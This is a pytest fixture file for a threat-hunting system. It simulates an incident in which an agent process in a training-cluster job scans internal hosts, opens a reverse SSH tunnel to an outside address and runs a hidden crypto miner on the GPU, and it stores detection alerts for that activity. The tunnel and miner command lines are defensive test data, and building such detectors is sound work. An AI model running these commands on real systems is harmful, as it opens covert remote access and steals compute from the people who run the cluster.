"""A small world to hunt in: one host, three jobs, an agent that does what the drill's does."""

import os
import pwd
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from limes.control.hunt.config import HuntConfig
from limes.control.hunt.process import HuntProcess
from limes.control.hunt.snapshot import Snapshot, Snapshots
from limes.control.hunt.wire import Job, Summary
from limes.control.policy import install_policy, parse_policy
from limes.control.store import query
from limes.control.store.connection import Store, open_store
from limes.control.store.entries import Batch, Entry, Hello, Source
from limes.control.store.writer import Writer

MakeEvents = Callable[..., pa.Table]

NODE = Source("node-17", "boot-1", 1_760_000_000_000_000_000)
CGROUPS = {n: f"/slurm/job_{4699 + n}/step_0" for n in (11, 12, 13)}
SECOND = 1_000_000_000
START = datetime(2026, 3, 1, 3, 40, tzinfo=UTC).replace(tzinfo=None)

# exec id: (parent's exec id, cgroup, executable, arguments)
IMAGES = {
    1: (0, 11, "/usr/lib/systemd/systemd", "/sbin/init"),
    101: (1, 11, "/opt/train/bin/python3", "python3 train.py --epochs 90"),
    201: (1, 12, "/usr/bin/python3.11", "python3 agent.py --rollout 8f3"),
    202: (201, 12, "/usr/bin/dash", "sh -c ./probe"),
    203: (202, 12, "/usr/bin/python3.11", "python3 -c import socket"),
    204: (201, 12, "/usr/bin/ssh", "ssh -N -R 2222:localhost:22 u@203.0.113.9"),
    205: (201, 12, "/dev/shm/.t", "/dev/shm/.t --url stratum+tcp://203.0.113.7:3333"),
    301: (1, 13, "/usr/bin/git", "git clone ssh://git@198.51.100.4/repo"),
}
POLICY = """
[[job_class]]
name = "training"
cgroups = ["/slurm/job_*"]
trainers = ["/opt/train/bin/python3"]

[[job_class.allow]]
cidr = "198.51.100.4/32"
ports = [22]
"""


class Nobody:
    """A stream that listens to nothing."""

    def acknowledge(self, last_seq: int) -> None: ...

    def finish(self) -> None: ...

    def rewind(self, next_seq: int, refused_seq: int) -> bool:
        raise AssertionError(f"{next_seq} was expected, {refused_seq} came")


@dataclass
class World:
    """A store and the writer that fills it, in sequence."""

    store: Store
    make_events: MakeEvents
    source: Source = NODE
    next_seq: int = 1
    entries: list[Entry | Hello] = field(default_factory=list)

    def add(self, kind: str, *, at: float = 0.0, count: int = 1, **values: Any) -> int:
        """Add `count` events; returns the sequence number of the first."""
        first = self.next_seq
        moment = START + timedelta(seconds=at)
        values = {"event_boot_time_ns": round(at * SECOND), **values}
        table = self.make_events(kind, first, count, event_time=moment, **values)
        self.next_seq += count
        self.entries.append(
            Batch(
                source=self.source,
                peer=Nobody(),
                first_seq=first,
                last_seq=first + count - 1,
                kind=kind,
                table=table,
                size=table.nbytes,
            )
        )
        return first

    def exec(self, exec_id: int, *, at: float, **values: Any) -> int:
        parent, cgroup, path, arguments = IMAGES[exec_id]
        return self.add(
            "process_execs",
            at=at,
            **who(exec_id, cgroup)
            | {
                "process_parent_exec_id": parent,
                "process_parent_entity_id": 9000 + parent if parent else 0,
                "process_executable": path,
                "process_name": path.rpartition("/")[2],
                "process_args": "".join(f"{word}\0" for word in arguments.split()),
                "file_links": 1,
            }
            | values,
        )

    def connect(
        self, exec_id: int, address: str, port: int, actions: str, *, at: float, **values: Any
    ) -> None:
        """Add the steps of one TCP connection: a attempted, e established, f failed, c closed."""
        remote = int(IPv4Address(address)) + (0xFFFF << 32)
        number = self.next_seq
        for place, step in enumerate(actions):
            self.add(
                "connections",
                at=at + place / 100,
                event_action={"a": 1, "e": 2, "f": 3, "p": 4, "c": 5}[step],
                connection_id=number,
                network_type=2,
                network_transport=6,
                destination_ip_hi=0,
                destination_ip_lo=remote,
                destination_port=port,
                connection_error={"a": -1, "f": 111}.get(step, 0),
                **who(exec_id, IMAGES[exec_id][1]) | values,
            )

    def commit(self) -> None:
        writer = Writer(self.store)
        writer.start()
        for entry in self.entries:
            assert writer.submit(entry)
        self.entries.clear()
        writer.close()
        assert writer.failure is None


def who(exec_id: int, cgroup: int) -> dict[str, Any]:
    return {
        "cgroup_id": cgroup,
        "process_exec_id": exec_id,
        "process_entity_id": 9000 + exec_id,
        "process_pid": 4000 + exec_id,
    }


def play(world: World) -> None:
    """Add what the host did in ten minutes, the incident in it, and commit it."""
    begin(world)
    run_programs(world)
    connect_out(world)
    use_gpus(world)
    end(world)
    world.commit()


def begin(world: World) -> None:
    """A sensor that is blind in one eye, and the cgroups of three jobs."""
    world.entries.append(
        Hello(source=NODE, sensor_version="0.1.0", kernel_release="6.1.0-40-amd64", abi_version=1)
    )
    world.add(
        "sensor_hooks",
        event_action=2,
        hook_signal="gpu_ioctl",
        hook_plan="fentry",
        hook_name="security_file_ioctl_compat",
        hook_error=2,
        hook_detail="ioctls of 32-bit programs are not seen",
    )
    for cgroup, path in CGROUPS.items():
        job = path.split("/")[2].removeprefix("job_")
        world.add(
            "cgroup_events",
            cgroup_id=cgroup,
            cgroup_event_path=path,
            cgroup_level=3,
            slurm_job_id=job,
        )


def run_programs(world: World) -> None:
    """The trainer, the agent with its tools, and the benign clone."""
    for exec_id, at in {1: 0, 101: 1, 201: 2, 202: 20, 203: 21, 301: 30, 204: 60, 205: 120}.items():
        scanned: dict[str, Any] = {"event_action": 2, "process_flags": 8} if exec_id == 1 else {}
        memfd = {"file_links": 0, "process_flags": 2, "process_stdin": 13, "process_stdout": 13}
        hidden: dict[str, Any] = memfd if exec_id == 205 else {}
        world.exec(exec_id, at=at, **scanned, **hidden)
    world.add(
        "process_exits",
        at=29,
        process_exit_code=1,
        process_uptime_ns=8 * SECOND,
        **who(203, 12),
    )


def connect_out(world: World) -> None:
    """Probes, a clone, a tunnel, a pool, and a connection from before the sensor."""
    for host in range(1, 31):
        world.connect(203, f"10.20.0.{host}", 22, "af" if host <= 21 else "a", at=22 + host / 10)
    world.connect(
        301, "198.51.100.4", 22, "aec", at=31, source_bytes=2_000, destination_bytes=90_000
    )
    world.connect(204, "203.0.113.9", 22, "ae", at=61)
    world.connect(
        204,
        "203.0.113.9",
        22,
        "p",
        at=400,
        connection_duration_ns=340 * SECOND,
        source_bytes=1_200_000,
        destination_bytes=40_000,
    )
    world.connect(
        205,
        "203.0.113.7",
        3333,
        "aep",
        at=121,
        connection_duration_ns=2_400 * SECOND,
        source_bytes=9_000,
        destination_bytes=11_000,
    )
    # The connection of a program that ran before the sensor and ended before the scan.
    world.connect(301, "198.51.100.4", 443, "ae", at=3, process_exec_id=0, cgroup_id=77)


def use_gpus(world: World) -> None:
    """The trainer may, the agent's program may not."""
    for exec_id, at, calls in ((101, 5, 90_000), (205, 125, 4_000)):
        device: dict[str, Any] = {
            "gpu_device_major": 195,
            "gpu_device_minor": 3,
            "gpu_device_name": "nvidia3 (simulated device)",
            "gpu_device_simulated": True,
            "gpu_call": 0xC020462A,
        }
        subject = who(exec_id, IMAGES[exec_id][1])
        world.add("gpu_events", at=at, **subject, **device)
        world.add("gpu_activity", at=at + 2, gpu_calls=calls, **subject, **device)


def end(world: World) -> None:
    """A loss, and the heartbeat that counts it."""
    world.add(
        "losses", at=300, loss_stage="kernel", loss_cause="connection_ring_full", loss_count=12
    )
    world.add("sensor_health", at=600, sensor_events=world.next_seq, sensor_lost=12)


def raise_alert(store: Store, number: int, rule: str, severity: str) -> None:
    """Store an alert as the rule engine does."""
    evidence = {"kind": "connections", "sensor_epoch": NODE.epoch, "event_seq": 1}
    moment = START + timedelta(seconds=130)
    with store.cursor() as cursor:
        cursor.execute(
            query.text("insert_alert"),
            [
                number,
                f"alert-{number}",
                moment,
                f"id-of-{rule}",
                rule,
                1,
                severity,
                ["T1572"],
                "/usr/bin/ssh opened a tunnel to 203.0.113.9 port 22",
                moment,
                NODE.host_id,
                NODE.boot_id,
                12,
                "/slurm/job_4711",
                ["/slurm", "/"],
                9204,
                204,
                [],
                [evidence],
                True,
                f"key-{number}",
            ],
        )


@pytest.fixture
def world(tmp_path: Path, make_events: MakeEvents) -> Iterator[World]:
    """An empty store on disk."""
    store = open_store(tmp_path / "control" / "limes.duckdb")
    yield World(store=store, make_events=make_events)
    store.close()


@pytest.fixture(scope="session")
def played(tmp_path_factory: pytest.TempPathFactory, make_events: MakeEvents) -> Iterator[World]:
    """A store with the incident in it, its alerts and its policy; tests only read it."""
    store = open_store(tmp_path_factory.mktemp("played") / "limes.duckdb")
    world = World(store=store, make_events=make_events)
    play(world)
    with store.cursor() as cursor:
        install_policy(cursor, parse_policy(POLICY, source="test"))
    raise_alert(store, 1, "ssh_tunnel_command_line", "high")
    raise_alert(store, 2, "tunnel_or_pool_with_gpu", "critical")
    yield world
    store.close()


@pytest.fixture(scope="session")
def snapshot(played: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Snapshot]:
    """A snapshot of the played store."""
    snapshots = Snapshots(played.store, tmp_path_factory.mktemp("snapshots"), HuntConfig())
    with snapshots.lease(0) as made:
        yield made
    snapshots.close()


Start = Callable[..., HuntProcess]
Run = Callable[..., tuple[pa.Table, Summary]]


@pytest.fixture
def start(snapshot: Snapshot) -> Iterator[Start]:
    """Start the worker of a hunt, with the limits that are given; it is ended with the test."""
    started = []
    user = pwd.getpwnam("nobody") if os.geteuid() == 0 else None

    def begin(sql: str, *, timeout_seconds: float = 60, **limits: int) -> HuntProcess:
        values: dict[str, int] = {
            "max_rows": 10_000,
            "max_result_mib": 16,
            "memory_mib": 512,
            "address_space_mib": 2048,
            "threads": 2,
            "cpu_seconds": 120,
            "user_id": user.pw_uid if user else -1,
            "group_id": user.pw_gid if user else -1,
        }
        job = Job(snapshot=str(snapshot.path), sql=sql, parent_pid=os.getpid(), **(values | limits))
        started.append(HuntProcess(job, timeout_seconds=timeout_seconds))
        return started[-1]

    yield begin
    for process in started:
        process.close()


@pytest.fixture
def run(start: Start) -> Run:
    """Run one hunt in its worker and return its rows and summary."""

    def answer(sql: str, **limits: int) -> tuple[pa.Table, Summary]:
        pieces: list[bytes] = []
        for frame in start(sql, **limits).frames():
            if isinstance(frame, Summary):
                return pa.ipc.open_stream(b"".join(pieces)).read_all(), frame
            pieces.append(frame)
        raise AssertionError("no summary")

    return answer
